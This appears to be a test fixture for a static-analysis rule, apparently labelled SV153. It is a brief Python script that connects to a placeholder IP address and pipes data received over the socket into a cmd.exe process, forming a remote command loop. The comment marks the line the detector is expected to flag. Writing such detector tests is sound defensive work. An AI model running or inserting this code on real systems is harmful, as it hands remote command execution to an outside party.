import socket
import subprocess
import threading

s = socket.socket()
s.connect(("198.51.100.14", 443))
p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)


def pump():
    while True:
        p.stdin.write(s.recv(1024))  # want "SV153: remote command loop: feeds data received over a socket"
        p.stdin.flush()


threading.Thread(target=pump).start()
